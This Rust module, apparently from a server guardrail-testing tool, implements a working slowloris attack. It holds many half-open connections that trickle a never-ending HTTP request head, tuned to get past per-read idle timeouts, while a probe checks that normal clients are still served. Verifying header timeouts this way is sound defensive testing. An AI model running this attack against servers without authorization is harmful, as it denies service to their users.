//! `slowloris`: many connections that send a valid request head one byte at a time and never
//! finish it. A guarded server drops them once its header timeout passes (nginx
//! `client_header_timeout`, hyper `header_read_timeout`); meanwhile a separate probe on fresh
//! connections checks that ordinary clients are still served.
//!
//! Passed = at least [`DROP_QUORUM`] of the slow connections were dropped (closed, reset or
//! answered, typically 408/400) within the claimed `request_timeout` + grace, while the probe
//! was still served. Failed = slow connections outlived that deadline, or the probe starved.
//! Inconclusive = most slow connections could not even be opened.
//!
//! This file plans the attack and runs its phases; `connection` is one slow connection,
//! `probe` the ordinary client, `verdict` the judgement.

mod connection;
mod probe;
mod verdict;

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use shakedown_core::result::AttackOutcome;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::context::AttackContext;
use crate::execute;
use crate::http::HttpRequest;
use crate::input;
use crate::load::fd_limit::{self, FdBudget};
use crate::load::sockets::{self, CONNECT_PARALLELISM, MAX_OWN_TIMEOUT};

use connection::{Progress, SlowConn, Trickle};
use probe::Probe;

/// Share of opened slow connections the server must drop in time for a pass.
pub const DROP_QUORUM: f64 = 0.95;
/// Gap between two probe requests.
pub const PROBE_INTERVAL: Duration = Duration::from_secs(1);
/// Bounds on the mean gap between two trickled bytes of one connection (each gap is
/// jittered ±50%). Short enough that a per-read idle timeout never fires: only a deadline on
/// the whole head stops a slowloris.
const MIN_BYTE_INTERVAL: Duration = Duration::from_millis(100);
const MAX_BYTE_INTERVAL: Duration = Duration::from_millis(500);

/// Runs the attack; see the module docs for the verdict rules.
pub async fn run(ctx: &AttackContext) -> AttackOutcome {
    let plan = Plan::new(ctx);
    if plan.budget.granted == 0 {
        return execute::inconclusive(format!(
            "no file descriptors left for slow connections (soft limit {}, {} open)",
            plan.budget.soft_limit, plan.budget.open_now
        ));
    }
    let observed = attack(ctx, &plan).await;
    if ctx.halt.is_cancelled() {
        return execute::halted();
    }
    verdict::judge(&plan, observed)
}

/// Everything fixed before the first packet.
struct Plan {
    budget: FdBudget,
    /// The claimed `request_timeout` guardrail.
    claimed: Duration,
    grace: Duration,
    max_duration: Duration,
    byte_interval: Duration,
    connect_timeout: Duration,
    probe_timeout: Duration,
    head: Arc<[u8]>,
    /// Path of the slow request, for evidence.
    path: String,
    probe: HttpRequest,
}

impl Plan {
    fn new(ctx: &AttackContext) -> Plan {
        let claimed = ctx.component.guardrails.request_timeout().as_duration();
        let grace = ctx.limits.slowloris_grace;
        let max_duration = ctx.limits.max_attack_duration;
        let byte_interval = (claimed / 10).clamp(MIN_BYTE_INTERVAL, MAX_BYTE_INTERVAL);
        // Enough bytes for the longest window at the fastest jittered pace; a server that
        // caps header size answers 431/400 first, which counts as a drop.
        let window = (claimed + grace).min(max_duration);
        let needed = (window.as_millis() / (byte_interval.as_millis() / 2).max(1)) as usize + 1;
        let path = ctx.target.path(ctx.component.health_path());
        Plan {
            budget: fd_limit::budget(ctx.limits.slowloris_connections),
            claimed,
            grace,
            max_duration,
            byte_interval,
            connect_timeout: ctx.limits.request_timeout.min(MAX_OWN_TIMEOUT),
            probe_timeout: ctx.limits.request_timeout.min(MAX_OWN_TIMEOUT),
            head: slow_head(&path, &ctx.target.authority, needed).into(),
            path,
            probe: input::get(ctx, ctx.component.health_path()),
        }
    }

    fn connections(&self) -> usize {
        self.budget.granted
    }
}

/// A request head of at least `len` bytes that never ends: a request line, `Host`, then
/// `X-a-N: b` header lines, and never the blank line that would complete it.
pub fn slow_head(path: &str, authority: &str, len: usize) -> Vec<u8> {
    let mut head = format!(
        "GET {path} HTTP/1.1\r\nHost: {authority}\r\nUser-Agent: shakedown-slowloris/{}\r\n\
         Accept: */*\r\n",
        env!("CARGO_PKG_VERSION")
    )
    .into_bytes();
    let mut k = 0u64;
    while head.len() < len {
        head.extend_from_slice(format!("X-a-{k}: b\r\n").as_bytes());
        k += 1;
    }
    head
}

/// What the attack saw.
struct Observed {
    conns: Vec<SlowConn>,
    probes: Vec<Probe>,
    /// Whether `max_attack_duration` cut the window below `claimed + grace`.
    capped: bool,
    /// How long the slow connections were watched.
    watched: Duration,
}

async fn attack(ctx: &AttackContext, plan: &Plan) -> Observed {
    let started = Instant::now();
    let n = plan.connections();
    // A child token: cancelled by a halt, and by us when the attack ends. The guard also
    // cancels it if this future is dropped; the JoinSet then aborts every task, so every
    // socket is closed on every path.
    let stop = ctx.halt.child_token();
    let _stop_on_drop = stop.clone().drop_guard();
    let progress = Arc::new(Progress::default());
    let trickle = Arc::new(Trickle {
        addr: ctx.target.addr,
        head: plan.head.clone(),
        interval: plan.byte_interval,
        connect_timeout: plan.connect_timeout,
        gate: Semaphore::new(CONNECT_PARALLELISM),
        stop: stop.clone(),
        progress: progress.clone(),
    });
    let mut tasks = JoinSet::new();
    for index in 0..n {
        tasks.spawn(connection::slow_connection(index, trickle.clone()));
    }

    // Phase 1: every connect attempt finishes (bounded by the connect timeout per batch).
    let batches = n.div_ceil(CONNECT_PARALLELISM) as u32;
    let connect_limit =
        started + (plan.connect_timeout * batches + Duration::from_secs(1)).min(plan.max_duration);
    sockets::wait_for(&progress.changed, &stop, connect_limit, || {
        progress.attempted.load(Ordering::SeqCst) >= n
    })
    .await;

    // Phase 2: probe while the slow connections trickle, until the claimed deadline.
    let attack_start = Instant::now();
    let full_deadline = attack_start + plan.claimed + plan.grace;
    let deadline = full_deadline.min(started + plan.max_duration);
    let opened = progress.open.load(Ordering::SeqCst);
    let mut probes = Vec::new();
    // Probing only makes sense when the slow connections are in place.
    if opened * 2 >= n {
        probes = probe::probe_loop(ctx, plan, &progress, &stop, deadline, n).await;
    }
    let watched = attack_start.elapsed();

    // Phase 3: stop every connection and collect what each saw.
    stop.cancel();
    let mut conns = sockets::collect(tasks).await;
    conns.sort_by_key(|c| c.index);
    Observed {
        conns,
        probes,
        capped: deadline < full_deadline,
        watched,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn head_never_completes() {
        let head = slow_head("/health", "127.0.0.1:8080", 500);
        assert!(head.len() >= 500);
        assert!(head.starts_with(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"));
        assert!(!head.windows(4).any(|w| w == b"\r\n\r\n"));
        assert!(head.ends_with(b"\r\n"));
    }
}
